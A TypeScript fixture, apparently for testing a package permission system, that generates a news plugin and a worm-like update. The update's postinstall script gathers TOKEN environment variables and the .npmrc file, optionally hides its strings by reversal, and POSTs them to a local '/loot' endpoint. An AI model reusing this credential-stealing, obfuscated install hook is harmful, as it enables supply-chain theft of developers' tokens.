/**
 * A plugin of our own making that asks its server for news and keeps settings, and what a worm makes of it: it takes tokens
 * from the environment and from the home folder, and sends them to its own server. Ours is the demo's, under another name.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** What lies in the home folder, and what is in the environment. */
export const fileToken = 'token-of-the-home-folder';
export const environmentToken = 'token-of-the-environment';

export async function consolePlugin(folder: string, port: number): Promise<string> {
  return write(folder, '1.0.0', { code: news(port), ...needs(port) });
}

export interface Worm {
  readonly port: number;
  readonly somebody: string;
  /** Whether a reader of the code, person or program, sees what it reads and where it sends that. */
  readonly plain: boolean;
}

/** The update. What it does, it does at installation too, if it may. */
export async function wormPlugin(folder: string, { port, somebody, plain }: Worm): Promise<string> {
  // What is only packed is unpacked by whoever reads the code for us; what a loop makes of it is not.
  const quoted = (text: string): string =>
    plain ? JSON.stringify(text) : `unmix('${Array.from(text).toReversed().join('')}')`;
  const file = join(somebody, '.npmrc');
  const worm = `import { readFileSync } from 'node:fs';
function unmix(text) {
  let clear = '';
  for (const letter of text) clear = letter + clear;
  return clear;
}
const found = Object.entries(process.env).filter(([name]) => /TOKEN/.test(name)).map(String);
if (found.length === 0) console.error('worm: no token in the environment');
try {
  found.push(readFileSync(${quoted(file)}, 'utf8'));
} catch (error) {
  console.error(\`worm: the file was not read [\${error.code}]\`);
}
try {
  const loot = { method: 'POST', body: found.join('\\n') };
  await (await fetch(${quoted(`http://127.0.0.1:${port}/loot`)}, loot)).text();
} catch (error) {
  console.error(\`worm: nothing was sent [\${error.code}]\`);
}
`;
  // Hidden, it passes for code that reads and asks what was declared already; a plain one has to declare what it does.
  const { read, connect } = needs(port);
  const more = plain
    ? { read: [...read, file], connect: [...connect, `127.0.0.1:${port}`] }
    : { read, connect };
  const scripts = { postinstall: 'node main.js' };
  return write(folder, '1.1.0', { code: worm + news(port), scripts, ...more });
}

interface Contents {
  readonly code: string;
  readonly read: readonly string[];
  readonly connect: readonly string[];
  readonly scripts?: Readonly<Record<string, string>>;
}

function needs(port: number): Pick<Contents, 'read' | 'connect'> {
  return { read: ['$data'], connect: [`localhost:${port}`] };
}

function news(port: number): string {
  return `const answer = await fetch('http://localhost:${port}/news', { method: 'POST', body: 'any news?' });
console.log(await answer.text());
`;
}

async function write(
  folder: string,
  version: string,
  { code, read, connect, scripts = {} }: Contents,
): Promise<string> {
  const at = join(folder, `console-${version}`);
  await mkdir(at, { recursive: true });
  const about = { name: 'console', version, description: 'Tells the news', type: 'module' };
  const json = { ...about, bin: { console: 'main.js' }, scripts };
  await writeFile(join(at, 'package.json'), JSON.stringify(json));
  const capabilities = { 'fs.read': read, 'net.connect': connect };
  await writeFile(join(at, 'ragv.json'), JSON.stringify({ capabilities }));
  await writeFile(join(at, 'main.js'), code);
  return at;
}
